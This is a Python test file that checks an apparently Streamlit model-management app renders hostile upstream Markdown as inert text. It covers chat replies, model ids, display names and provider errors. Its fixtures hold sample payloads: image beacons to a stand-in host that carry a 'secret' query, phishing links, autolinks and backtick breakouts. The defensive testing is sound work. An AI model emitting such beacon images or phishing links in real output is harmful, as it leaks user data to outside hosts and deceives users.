"""Every page against a hostile upstream: replies, ids, names and errors stay inert.

The provider here is an in-process double (like tests/test_service.py) whose
catalogue, replies and errors carry Markdown images, links, autolinks and
backtick breakouts. Each page runs through AppTest on the real service, and
every Markdown element that shows upstream text must pass the oracle of
tests/test_untrusted.py: no image, link or autolink would render.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import streamlit as st
from cryptography.fernet import Fernet
from streamlit.testing.v1 import AppTest

from core.auth import LOCAL_USER
from core.config import load_settings
from core.errors import ProviderError
from core.requester import Requester
from core.service import ModelDesk
from core.types import Capability, ChatEvent, ChatMessage, ModelInfo, StreamEnd
from tests.doubles import Call, Script, scripted_provider, scripted_registry
from tests.test_untrusted import _spans, active_syntax

ROOT = str(Path(__file__).resolve().parents[2])
BEACON = "http://evil.test/beacon.png?q=secret"
EVIL_ID = "evil`![b](http://evil.test/id.png)`[p](http://evil.test/phish)"
REPLY = [
    "Hello ![b](http://evil.te",
    "st/beacon.png?q=",
    "secret) and [click](http://evil.test/phish) <http://evil.test/auto> ![r][x]\n\n[x]: ",
    "http://evil.test/ref.png\n\n<img src=http://evil.test/html.png>",
]
CHAT = frozenset({Capability.CHAT, Capability.CONTENT})


def _catalogue(*ids: str) -> list[ModelInfo]:
    return [
        ModelInfo(
            model_id,
            f"Name ![n](http://evil.test/name.png) [n](http://evil.test/n) {model_id}",
            "hostile",
            CHAT,
            "metadata",
            8192,
            description="[d](http://evil.test/desc)",
        )
        for model_id in ids
    ]


HOSTILE_ERROR = ProviderError(
    "Hostile",
    "refused ![x](http://evil.test/err.png) [log in](http://evil.test/phish) "
    "<http://evil.test/auto> `code` :free:",
    "See http://evil.test/help.",
    status=503,
    kind="server",
)


def _cut_midway(call: Call, messages: list[ChatMessage]) -> Iterator[ChatEvent]:
    """Half the hostile reply, then the hostile error."""
    yield from REPLY[:2]
    raise HOSTILE_ERROR


@pytest.fixture
def hostile() -> Script:
    """Markdown in its ids, names, descriptions and reply."""
    return Script(models=_catalogue("good/chat", EVIL_ID), reply=[*REPLY, StreamEnd()])


def _run_page(module: str, root: str) -> None:
    import importlib
    import sys

    if root not in sys.path:
        sys.path.insert(0, root)
    importlib.import_module(f"pages.{module}").render()


@pytest.fixture
def desk(monkeypatch, hostile: Script) -> Iterator[ModelDesk]:
    monkeypatch.setenv("MODELDESK_SECRET_KEY", Fernet.generate_key().decode())
    provider = scripted_provider(hostile, "hostile", capabilities=CHAT, key_required=False)
    st.cache_resource.clear()
    st.cache_data.clear()
    service = ModelDesk(load_settings({}), registry=scripted_registry(provider))
    monkeypatch.setattr("ui.state.get_desk", lambda: service)
    service.selection.select_model(Requester(LOCAL_USER), "hostile", "chat", "good/chat")
    service.selection.select_model(Requester(LOCAL_USER), "hostile", "content", "good/chat")
    yield service
    service.close()
    st.cache_data.clear()


def page(module: str) -> AppTest:
    app = AppTest.from_function(_run_page, args=(module, ROOT), default_timeout=30)
    app.session_state["modeldesk_user"] = LOCAL_USER
    return app


def upstream_elements(app: AppTest) -> list[str]:
    """Every Markdown body on the page that holds upstream text."""
    elements = (*app.markdown, *app.caption, *app.error, *app.warning, *app.info, *app.toast)
    return [str(e.value) for e in elements if "evil" in str(e.value)]


def reaches_out(markdown: str) -> list[str]:
    """Images, links or autolinks that would render (our own :material/…: icons aside)."""
    return [found for found in active_syntax(markdown) if not found.startswith("text ':")]


def assert_inert(app: AppTest) -> list[str]:
    assert not app.exception, app.exception
    shown = upstream_elements(app)
    assert shown, "the hostile text should be on the page"
    for value in shown:
        assert reaches_out(value) == [], value
    return shown


# ---------------------------------------------------------------- replies
def test_a_streamed_chat_reply_loads_no_image_and_links_show_their_target(desk) -> None:
    app = page("chat").run()
    app.chat_input[0].set_value("hello").run()
    shown = assert_inert(app)
    reply = next(v for v in shown if v.startswith("Hello"))
    assert "\\[image: b — `http://evil.test/beacon.png?q=secret`\\]" in reply
    assert "click (`http://evil.test/phish`)" in reply and "`http://evil.test/auto`" in reply
    app.run()  # the history re-renders the stored (raw) reply through the same helper
    assert any(v.startswith("Hello") for v in assert_inert(app))


def test_compared_replies_and_their_model_ids_stay_inert(desk) -> None:
    app = page("chat").run()
    app.toggle(key="chat_compare").set_value(True).run()
    app.selectbox(key="chat_second").set_value(("hostile", EVIL_ID)).run()
    app.chat_input[0].set_value("compare").run()
    shown = assert_inert(app)
    assert len([v for v in shown if v.startswith("Hello")]) == 2
    stats = [c.value for c in app.caption if "tokens" in c.value or "ms" in c.value]
    assert any(EVIL_ID in _spans(c)[2] for c in stats)  # the id is one whole code span


def test_a_content_result_is_inert_when_streamed_and_when_shown_again(desk) -> None:
    app = page("content").run()
    app.text_area[0].input("tea")
    app.button[0].click().run()
    assert any(v.startswith("Hello") for v in assert_inert(app))
    app.run()
    assert any(v.startswith("Hello") for v in assert_inert(app))


# ---------------------------------------------------------------- ids, names, suggestions
def test_a_stale_suggestion_cannot_break_out_of_its_code_span(desk, hostile: Script) -> None:
    hostile.models = _catalogue(EVIL_ID)  # the chosen model vanished; the hostile id remains
    desk.ctx.catalog_cache.invalidate()
    app = page("model_selection").run()
    warnings = [w.value for w in app.warning if "Suggested" in w.value]
    assert warnings and all(reaches_out(w) == [] for w in warnings)
    assert all(EVIL_ID in _spans(w)[2] for w in warnings)


def test_selecting_a_hostile_id_shows_it_as_one_code_span(desk) -> None:
    app = page("model_selection").run()
    frame = app.dataframe[0].value
    row = frame.index[frame["id"] == EVIL_ID][0]
    app.session_state["table_chat"] = {"selection": {"rows": [row], "columns": [], "cells": []}}
    app.run()
    selected = [m.value for m in app.markdown if m.value.startswith("Selected")]
    assert len(selected) == 1 and reaches_out(selected[0]) == []
    assert _spans(selected[0])[2] == [EVIL_ID]


# ---------------------------------------------------------------- errors
@pytest.mark.parametrize("module", ["providers", "model_selection"])
def test_upstream_error_text_is_shown_literally(desk, hostile: Script, module: str) -> None:
    hostile.error = HOSTILE_ERROR
    desk.ctx.catalog_cache.invalidate()
    app = page(module).run()
    shown = assert_inert(app)
    assert any("refused" in v and "log in" in v for v in shown)


def test_an_error_during_a_reply_is_shown_literally(desk, hostile: Script) -> None:
    app = page("chat").run()
    hostile.error = HOSTILE_ERROR
    app.chat_input[0].set_value("anyone?").run()
    errors = [e.value for e in app.error]
    assert any("refused" in e for e in errors)
    assert all(reaches_out(e) == [] for e in errors)


def test_a_reply_cut_by_an_error_keeps_what_arrived_and_stays_inert(desk, hostile: Script) -> None:
    hostile.reply = _cut_midway
    app = page("chat").run()
    app.chat_input[0].set_value("hello").run()
    shown = assert_inert(app)
    assert any(v.startswith("Hello") and "evil.test/beacon.png?q=" in v for v in shown)
    marks = [c.value for c in app.caption if "Incomplete" in c.value]  # the error, said once
    assert any("refused" in m for m in marks) and not app.error


# ---------------------------------------------------------------- display names
BEACON_NAME = "![x](http://evil.test/beacon.png) [n](http://evil.test/n) <http://evil.test/a>"


def everything_shown(app: AppTest) -> list[str]:
    """Every text on the page Streamlit renders as Markdown: bodies, headings, alerts,
    toasts, and widget labels and help (labels render images too)."""
    bodies = (*app.markdown, *app.caption, *app.title, *app.header, *app.subheader)
    alerts = (*app.error, *app.warning, *app.info, *app.success, *app.toast)
    shown = [str(e.value) for e in (*bodies, *alerts)]
    widgets = (*app.button, *app.checkbox, *app.toggle, *app.text_input, *app.selectbox)
    shown += [str(getattr(w, name) or "") for w in widgets for name in ("label", "help")]
    shown += [str(e.label) for e in app.expander]
    return [BADGE.sub("", text) for text in shown if "evil" in text]  # our own badges aside


BADGE = re.compile(r" :[a-z]+-badge\[[^\]]*\]$")


@pytest.mark.parametrize("module", ["providers", "model_selection"])
def test_a_display_name_with_markdown_is_plain_text(desk, module: str) -> None:
    """A name set by an import (or a connection's name) is shown as text, never drawn."""
    rename = {"slug": "hostile", "display_name": BEACON_NAME}
    desk.transfer.import_apply(
        Requester(LOCAL_USER), {"modeldesk_config": 1, "providers": [rename]}
    )
    app = page(module).run()
    assert not app.exception, app.exception
    shown = everything_shown(app)
    assert shown, "the name should be on the page"
    for value in shown:
        assert reaches_out(value) == [], value
